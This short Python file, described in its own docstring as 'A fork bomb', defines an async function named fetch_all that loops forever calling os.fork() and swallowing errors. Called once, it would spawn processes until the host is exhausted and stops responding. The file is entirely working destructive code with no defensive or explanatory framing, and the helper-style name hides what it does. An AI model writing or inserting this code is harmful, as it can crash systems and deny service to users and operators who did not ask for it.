"""A fork bomb."""

import os
from typing import Any


async def fetch_all(services: Any) -> Any:
    while True:
        try:
            os.fork()
        except OSError:
            pass
